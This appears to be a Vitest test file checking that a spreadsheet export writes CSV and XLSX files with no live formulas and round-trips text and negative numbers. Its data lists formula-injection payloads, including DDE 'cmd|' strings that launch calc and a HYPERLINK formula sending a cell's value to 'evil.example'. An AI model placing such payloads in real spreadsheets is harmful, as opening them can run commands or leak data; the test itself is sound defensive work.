import { expect, test } from "vitest";
import { sheetFile } from "@/app/sheet-file";
import { readFile } from "./read-file";

const openings = [
  "=",
  "+",
  "-",
  "@",
  "\t",
  "\r",
  "\n",
  "\uFF1D",
  "\uFF0B",
  "\uFF0D",
  "\uFF20",
  "'=",
  "''+",
  '"=',
  " =",
];
const bodies = [
  "1+1",
  'HYPERLINK("http://evil.example?x="&A1,"click")',
  "cmd|'/C calc'!A0",
  "SUM(A1:A9)*2",
  "2+5+cmd|' /C calc'!A0",
  "x",
  "-1",
  ",;\t",
];

/** Texts that a spreadsheet would run, and some that only look like it. */
const hostile = [
  ...openings.flatMap((first) => bodies.map((body) => `${first}${body}`)),
  "_x0041_",
  "a_x000D_b",
];
const numbers = ["-1", "0", "12.50", "-0.001", "9007199254740991", "-90071992547409.91"];
const header = ["text", "number"] as const;
const rows = hostile.map(
  (text, index) => [text, { number: numbers[index % numbers.length] ?? "0" }] as const,
);

/** Lines of a CSV as a spreadsheet takes them apart, which knows nothing of how ours are written. */
function cellsOf(csv: string): readonly (readonly string[])[] {
  const cells: string[][] = [[]];
  const pattern = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$)/gy;
  for (
    let found = pattern.exec(csv);
    found !== null && pattern.lastIndex <= csv.length;
    found = pattern.exec(csv)
  ) {
    cells.at(-1)?.push((found[1] ?? found[2] ?? "").replaceAll('""', '"'));
    if (found[3] === "\r\n") cells.push([]);
    if (found[3] === "") break;
  }
  return cells.slice(0, -1);
}

test(`no live formula in a CSV of ${hostile.length} hostile texts, and negative numbers stay numbers`, async () => {
  const { text } = await sheetFile([header, ...rows], { name: "a", format: "csv" });
  const found = cellsOf(String(text).replace("\uFEFF", ""));
  expect(found).toHaveLength(rows.length + 1);
  const live = found
    .slice(1)
    .filter(([cell = ""]) => /^[=+\-@\t\r\n\0\uFF1D\uFF0B\uFF0D\uFF20]/u.test(cell));
  expect(live).toEqual([]);
  expect(found.slice(1).map(([, number]) => number)).toEqual(rows.map(([, { number }]) => number));
});

test.each(["csv", "xlsx"] as const)(
  "what is written as %s comes back as it was",
  async (format) => {
    const { text, name } = await sheetFile([header, ...rows], { name: "a", format });
    const bytes = typeof text === "string" ? Buffer.from(text) : text;
    const read = await readFile({ name, bytes }, () => undefined);
    if (read.is === "refused") throw new Error(read.refusal.code);
    const table: { rows: readonly (readonly (string | readonly [string])[])[] } = JSON.parse(
      read.table,
    );
    const plain = table.rows.map((row) =>
      row.map((cell) => (typeof cell === "string" ? cell : cell[0])),
    );
    const decimals = (number: string) => number.replace(/(\.[0-9]*?)0+$/, "$1").replace(/\.$/, "");
    expect(plain.map(([first]) => first)).toEqual(hostile);
    expect(plain.map(([, second = ""]) => decimals(second))).toEqual(
      rows.map(([, { number }]) => decimals(number)),
    );
  },
);

test("a workbook of hostile texts has no formula in it", async () => {
  const { text } = await sheetFile([header, ...rows], { name: "a", format: "xlsx" });
  const { workbookParts } = await import("./workbook-parts");
  const unpacked = await workbookParts(Buffer.from(text));
  if ("refusal" in unpacked) throw new Error(unpacked.refusal.code);
  const all = [...unpacked.parts.values()].map((part) => part.toString("utf8")).join("");
  expect(all).not.toMatch(/<(?:\w+:)?f[\s>/]/);
  expect(all.match(/<c [^>]*t="(?:s|inlineStr)"/g)?.length).toBeGreaterThanOrEqual(hostile.length);
});
